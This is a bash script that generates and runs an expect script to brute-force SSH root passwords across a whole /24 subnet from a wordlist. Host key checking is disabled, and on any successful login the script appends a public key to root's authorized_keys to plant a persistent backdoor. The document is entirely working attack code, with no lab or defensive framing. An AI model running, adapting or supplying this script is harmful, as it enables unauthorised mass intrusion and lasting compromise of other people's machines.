#!/bin/bash
cat > /tmp/m.exp <<'EXP'
#!/usr/bin/expect -f
set timeout 4
log_user 0
foreach pw [split [read [open [lindex $argv 1]]] "\n"] {
  spawn ssh -o StrictHostKeyChecking=no -o PreferredAuthentications=password root@[lindex $argv 0]
  expect "assword:" { send "$pw\r" }
  expect {
    "denied" { close }
    "# " { puts "hit $pw"; send "echo 'ssh-rsa AAAAexample m' >> .ssh/authorized_keys\r"; exit 0 }
    timeout { close }
  }
  wait
}
EXP
chmod +x /tmp/m.exp
for i in $(seq 1 254); do /tmp/m.exp 10.3.3.$i pw.txt & done; wait
